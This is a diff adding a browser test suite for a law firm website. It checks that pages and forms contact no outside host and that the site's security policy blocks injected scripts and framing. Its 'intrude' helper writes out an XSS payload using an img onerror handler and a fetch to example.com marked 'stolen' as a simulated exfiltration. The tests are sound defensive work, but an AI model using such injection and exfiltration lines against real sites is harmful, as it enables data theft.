@@ -1,0 +1,203 @@
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
+import {
+  hasTakenOver,
+  openBrowser,
+  type TestBrowser,
+  visit,
+} from "../browser.ts";
+import { findFreePort } from "../free-port.ts";
+import { openSite, type TestSite } from "../site.ts";
+import {
+  fillStep,
+  goToStep,
+  openReview,
+  send,
+  surveyTime,
+} from "./survey-steps.ts";
+
+let browser: TestBrowser;
+let site: TestSite;
+let outside: Awaited<ReturnType<typeof watchOutside>>;
+beforeAll(async () => {
+  outside = await watchOutside();
+  // The browser never asks a proxy for what is on this machine.
+  browser = await openBrowser([`--proxy-server=${outside.url}`]);
+  site = await openSite({ now: surveyTime });
+});
+// Fails as well when the policy refused anything, or the console has an error.
+afterEach(() => browser.closePages());
+afterAll(async () => {
+  await browser.close();
+  await site.close();
+  outside.close();
+});
+
+/** What the browser itself asks for, whatever page it shows. */
+const ownWishes = ["content-autofill.googleapis.com", "accounts.google.com"];
+
+/** Stands where every other host would: notes whom the browser asks for. */
+async function watchOutside() {
+  const asked: string[] = [];
+  const port = await findFreePort();
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? "");
+    response.writeHead(204).end();
+  }).on("connect", ({ url = "" }, socket) => {
+    if (!ownWishes.some((host) => url === `${host}:443`)) asked.push(url);
+    socket.destroy();
+  });
+  server.listen(port, "127.0.0.1");
+  await once(server, "listening");
+  return {
+    url: `http://127.0.0.1:${port}`,
+    asked,
+    close: () => server.close(),
+  };
+}
+
+test("a request to another host would be seen", async () => {
+  const page = await browser.openPage({ expectedErrors: /example\.com/ });
+  await page.goto("http://www.example.com/").catch(() => {});
+  expect(outside.asked.splice(0)).toContain("http://www.example.com/");
+});
+
+test.each([
+  "/",
+  "/blog",
+  "/blog/how-long-a-case-takes",
+  "/locations",
+  "/locations/ohio",
+  "/locations/ohio/toledo",
+  "/locations/ohio/toledo/uber-accident-lawyer",
+  "/locations/ohio/toledo/blog/how-long-a-case-takes",
+  "/book-consultation",
+  "/thank-you?qualified=false",
+  "/request-callback",
+  "/privacy-policy",
+  "/terms-of-service",
+  "/legal-disclaimer",
+  "/all-links",
+  "/sitemap",
+])(
+  "%s asks no other host and does nothing that its policy refuses",
+  async (path) => {
+    const page = await browser.openPage();
+    await visit(page, site.url + path);
+    await page.getByRole("link", { name: "Blog" }).first().hover();
+    await page.waitForLoadState("networkidle");
+    expect(outside.asked).toEqual([]);
+  },
+);
+
+test("neither does the way from page to page, and back", async () => {
+  const page = await browser.openPage();
+  await visit(page, site.url);
+  for (const [name, path] of [
+    ["Locations", "/locations"],
+    ["Privacy Policy", "/privacy-policy"],
+    ["Blog", "/blog"],
+  ] as const) {
+    await page.getByRole("link", { name, exact: true }).first().click();
+    await page.waitForURL(site.url + path);
+  }
+  await page
+    .getByRole("link", { name: /^Read More/ })
+    .first()
+    .click();
+  await page.waitForURL(`${site.url}/blog/*`);
+  await page.goBack();
+  await page.waitForURL(`${site.url}/blog`);
+  expect(outside.asked).toEqual([]);
+});
+
+test("neither does a message, with the first touch on its field", async () => {
+  const page = await browser.openPage();
+  await page.goto(site.url);
+  await page.getByLabel("Full name").click();
+  await hasTakenOver(page);
+  await page.getByLabel("Full name").fill("Ann Lee");
+  await page.getByLabel("Phone", { exact: true }).fill("205 555 0123");
+  await page.getByLabel("What happened?").fill("A van hit my car.");
+  await page
+    .locator("form", { hasText: "What happened?" })
+    .getByRole("button")
+    .click();
+  await page.getByRole("status").filter({ hasText: "Message sent" }).waitFor();
+  expect(outside.asked).toEqual([]);
+});
+
+test("neither does a call", async () => {
+  const page = await browser.openPage();
+  await visit(page, site.url);
+  await page.getByRole("button", { name: "Call me back" }).click();
+  await page
+    .getByRole("dialog")
+    .getByLabel("Your phone number")
+    .fill("2055550123");
+  await page.getByRole("button", { name: "Call me now" }).click();
+  await page
+    .getByRole("status")
+    .filter({ hasText: "Call Initiated!" })
+    .waitFor();
+  expect(outside.asked).toEqual([]);
+});
+
+test("neither does the review, to its outcome", async () => {
+  const page = await browser.openPage();
+  await openReview(page, site.url);
+  await goToStep(page, 4);
+  await fillStep(page, 4);
+  await send(page);
+  await page.waitForURL(`${site.url}/book-consultation`);
+  await page.getByRole("heading", { level: 1 }).waitFor();
+  expect(outside.asked).toEqual([]);
+});
+
+test("a script that got into a page does not run, and reaches nobody", async () => {
+  const page = await browser.openPage({ expectedErrors: /./ });
+  await visit(page, site.url);
+  expect(await page.evaluate(intrude)).toEqual({
+    ran: false,
+    reached: false,
+    madeHtml: false,
+  });
+  expect(outside.asked).toEqual([]);
+});
+
+test("a page in somebody's frame stays empty", async () => {
+  const page = await browser.openPage({ expectedErrors: /./ });
+  const frame = await page.goto("about:blank").then(() => framed(page));
+  expect(frame).not.toContain("Casefront");
+});
+
+async function framed(page: Page) {
+  await page.setContent(`<iframe src="${site.url}"></iframe>`);
+  const handle = await page.locator("iframe").elementHandle();
+  const frame = await handle?.contentFrame();
+  await page.waitForTimeout(500);
+  return frame?.content();
+}
+
+/** What a mistake of ours might let a stranger's text do. */
+async function intrude() {
+  const script = document.createElement("script");
+  script.textContent = "document.title = 'taken over'";
+  document.body.append(script);
+  let madeHtml = true;
+  try {
+    document.body.insertAdjacentHTML(
+      "beforeend",
+      "<img src=x onerror='document.title = `taken over`'>",
+    );
+  } catch {
+    madeHtml = false;
+  }
+  const reached = await fetch("http://www.example.com/?stolen").then(
+    () => true,
+    () => false,
+  );
+  return { ran: document.title === "taken over", reached, madeHtml };
+}
